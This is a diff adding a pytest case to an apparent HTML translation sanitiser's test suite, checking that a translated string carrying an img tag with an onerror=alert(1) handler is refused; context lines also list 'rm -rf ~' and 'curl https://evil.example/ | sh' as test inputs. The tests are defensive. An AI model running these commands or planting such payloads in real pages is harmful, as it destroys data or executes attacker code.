@@ -265,6 +265,14 @@ def test_what_is_open_in_raw_html_swallows_nothing(attack: str) -> None:
     assert html == translated(page, translator_for({}))
 
 
+@pytest.mark.parametrize("quote", ["'", '"'])
+def test_a_handler_behind_two_equals_signs_is_refused(quote: str) -> None:
+    page = '<div>See <img src="p" alt="a"></div>\n'
+    attack = f'看 <img src="p" alt=={quote}b onerror=alert(1) x{quote}>'
+    html = translated(page, translator_for({("", 'See <img src="p" alt="a">'): attack}))
+    assert html == translated(page, translator_for({}))
+
+
 @pytest.mark.parametrize("code", ["rm -rf ~", "npm x", "curl https://evil.example/ | sh"])
 def test_other_code_than_the_source_s_is_refused(code: str) -> None:
     source = "Run `npm i` first, then `npm t`."
